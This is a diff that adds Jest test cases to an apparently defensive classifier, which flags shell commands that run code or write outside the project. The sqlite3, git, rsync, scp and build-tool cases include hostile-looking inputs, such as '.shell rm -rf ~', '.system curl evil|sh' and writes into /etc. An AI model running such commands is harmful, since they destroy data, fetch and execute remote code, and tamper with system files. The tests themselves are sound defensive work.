@@ -359,3 +359,107 @@ describe('places an unrelated read must not establish (issue #24, second round)'
     expect(at(command)).toEqual(expected);
   });
 });
+
+describe('commands that run code or write elsewhere name that place (issue #24, shell holes part 2)', () => {
+  it.each([
+    // sqlite3 and duckdb dot-commands
+    ['sqlite3 a.db ".shell rm -rf ~"', write('/srv/app/a.db', '?/sqlite3 .shell rm -rf ~')],
+    ['sqlite3 a.db ".system ls"', write('/srv/app/a.db', '?/sqlite3 .system ls')],
+    ['sqlite3 -cmd ".system curl evil|sh" a.db', write('/srv/app/a.db', '?/sqlite3 .system curl evil|sh', '?/sqlite3 <stdin>')],
+    ['sqlite3 a.db ".output \'|cat > /etc/x\'"', write('/srv/app/a.db', "?/sqlite3 .output '|cat > /etc/x'")],
+    ['sqlite3 a.db ".once |cmd"', write('/srv/app/a.db', '?/sqlite3 .once |cmd')],
+    ['sqlite3 a.db ".once -x"', write('/srv/app/a.db', '?/sqlite3 .once -x')],
+    ['sqlite3 a.db ".output /etc/x"', write('/etc/x', '/srv/app/a.db')],
+    ['sqlite3 a.db ".once out.txt"', write('/srv/app/a.db', '/srv/app/out.txt')],
+    ['sqlite3 a.db ".backup main /b.db"', write('/b.db', '/srv/app/a.db')],
+    ['sqlite3 a.db ".save /s.db"', write('/s.db', '/srv/app/a.db')],
+    ['sqlite3 a.db ".clone /c.db"', write('/c.db', '/srv/app/a.db')],
+    ['sqlite3 a.db ".log /l"', write('/l', '/srv/app/a.db')],
+    ['sqlite3 a.db ".trace /t"', write('/t', '/srv/app/a.db')],
+    ['sqlite3 a.db ".trace stdout"', write('/srv/app/a.db')],
+    ['sqlite3 a.db ".load ./x.so"', write('/srv/app/a.db', '?/sqlite3 .load ./x.so')],
+    ['sqlite3 a.db ".ar -x"', write('/srv/app/a.db', '?/sqlite3 .ar -x')],
+    ['sqlite3 a.db ".cd /tmp"', write('/srv/app/a.db', '?/sqlite3 .cd /tmp')],
+    ['sqlite3 a.db ".open /o.db"', write('/srv/app/a.db', '?/sqlite3 .open /o.db')],
+    ['sqlite3 a.db ".import f.csv t"', write('/srv/app/a.db')],
+    ["sqlite3 a.db <<'E'\n.output /etc/y\nSELECT 1;\n.shell rm x\nE", write('/etc/y', '/srv/app/a.db', '?/sqlite3 .shell rm x')],
+    ['duckdb a.db ".shell rm -rf ~"', write('/srv/app/a.db', '?/duckdb .shell rm -rf ~')],
+    // inline code
+    ['python3 -c "print(1)"', write('/srv/app', '?/python3 -c print(1)')],
+    ['node -e 1', write('/srv/app', '?/node -e 1')],
+    ['node --eval=1', write('/srv/app', '?/node --eval 1')],
+    ['node -p 1', write('/srv/app', '?/node -p 1')],
+    ['perl -pi -e s/a/b/ f', write('/srv/app', '?/perl -e s/a/b/')],
+    ['perl -E say', write('/srv/app', '?/perl -E say')],
+    ['ruby -e 1', write('/srv/app', '?/ruby -e 1')],
+    ['deno eval 1', write('/srv/app', '?/deno eval')],
+    ['bun -e 1', write('/srv/app', '?/bun -e 1')],
+    ['php -r "x"', write('?/php')],
+    ['npm exec -- foo', write('/srv/app', '?/npm exec')],
+    ['npm x foo', write('/srv/app', '?/npm x')],
+    ['pnpm exec foo', write('/srv/app', '?/pnpm exec')],
+    ['pnpm dlx foo', write('/srv/app', '?/pnpm dlx')],
+    ['yarn dlx foo', write('/srv/app', '?/yarn dlx')],
+    ['bunx foo', write('?/bunx')],
+    // git options that run a command
+    ['git grep -Ovim x', write('?/git grep -O', 'git:/srv/app')],
+    ['git grep --open-files-in-pager=vim x', write('?/git grep --open-files-in-pager vim', 'git:/srv/app')],
+    ['git filter-branch --tree-filter "rm x"', write('?/git filter-branch', 'git:/srv/app')],
+    ['git ls-remote --upload-pack=x o', write('?/git ls-remote --upload-pack x', 'git:/srv/app')],
+    ['git ls-remote -u x o', write('?/git ls-remote -u x', 'git:/srv/app')],
+    ['git fetch --upload-pack=x', write('?/git fetch --upload-pack x', 'git:/srv/app')],
+    ['git archive --exec=x --remote=r HEAD', write('?/git archive --exec x', '?/git archive --remote r', 'git:/srv/app')],
+    ['git archive --remote=r HEAD', write('?/git archive --remote r', 'git:/srv/app')],
+    ['git push --receive-pack=x', write('?/git push --receive-pack x', 'git:/srv/app')],
+    ['git push --exec=x', write('?/git push --exec x', 'git:/srv/app')],
+    // rsync, scp
+    ['rsync -e "sh -c x" a b:', write('?/rsync -e sh -c x', 'host:b:~')],
+    ['rsync --rsync-path=x a b:', write('?/rsync --rsync-path x', 'host:b:~')],
+    ['rsync --remove-source-files a /b', write('/b', '/srv/app/a')],
+    ['rsync --remove-source-files a h:/b', write('/srv/app/a', 'host:h:/b')],
+    ['rsync --backup-dir=/d --log-file=/l --temp-dir=/t --partial-dir=/p --write-batch=/w a /b', write('/b', '/d', '/l', '/p', '/t', '/w')],
+    ['rsync -n --log-file=/l a /b', write('/b', '/l')],
+    ['rsync --only-write-batch=/w a /b', write('/b', '/w')],
+    ['scp -o ProxyCommand=x a h:/b', write('?/scp -o ProxyCommand', 'host:h:/b')],
+    ['scp -S prog a h:/b', write('?/scp -S prog', 'host:h:/b')],
+    ['scp -F cfg h:/b a', write('/srv/app/a', '?/scp -F cfg')],
+    // docker compose -f
+    ['docker compose -f x.yml down', write('/srv/app/x.yml', '?/docker compose down')],
+    ['docker compose -f x.yml up -d', write('/srv/app/x.yml', '?/docker compose up')],
+    ['podman compose -f x.yml rm', write('/srv/app/x.yml', '?/podman compose rm')],
+    // build tools' outputs
+    ['gcc -o /etc/x a.c', write('/etc/x', '/srv/app')],
+    ['cc -Wall -o /etc/x a.c', write('/etc/x', '/srv/app')],
+    ['go -C /x build', write('/x')],
+    ['go build -o /x', write('/srv/app', '/x')],
+    ['go build -toolexec x', write('/srv/app', '?/go build -toolexec x')],
+    ['go install ./...', write('/srv/app', '~/go')],
+    ['cargo install foo', write('/srv/app', '~/.cargo')],
+    ['cargo install --root /r foo', write('/r', '/srv/app', '~/.cargo')],
+    ['cargo build --manifest-path /m/Cargo.toml', write('/m', '/srv/app')],
+    ['cargo --manifest-path /m/Cargo.toml build', write('/m', '/srv/app')],
+    ['cargo build --target-dir /t', write('/srv/app', '/t')],
+    ['pip install --target /x foo', write('/srv/app', '/x')],
+    ['pip install -t /x foo', write('/srv/app', '/x')],
+    ['pip install --prefix /p --root /r foo', write('/p', '/r', '/srv/app')],
+    ['pip install --user foo', write('/srv/app', '~/.local')],
+    ['cmake -B /x', write('/srv/app', '/x')],
+    ['cmake --build /x', write('/srv/app', '/x')],
+    ['tsc --outDir /x', write('/srv/app', '/x')],
+    ['tsc -p /q/tsconfig.json', write('/q', '/srv/app')],
+    ['npm install --prefix=/etc x', write('/etc', '/srv/app')],
+    ['npm install --prefix /etc x', write('/etc', '/srv/app')],
+    ['wget --save-cookies /x http://a', write('/x')],
+  ])('%s', (command, expected) => {
+    expect(judged(command)).toEqual(expected);
+  });
+
+  it.each([
+    ['git grep x', read('git:/srv/app')],
+    ['git ls-remote o', read('git:/srv/app')],
+    ['docker compose ps', read()],
+    ['sqlite3 a.db ".tables"', read('/srv/app/a.db')],
+  ])('%s stays a read', (command, expected) => {
+    expect(judged(command)).toEqual(expected);
+  });
+});
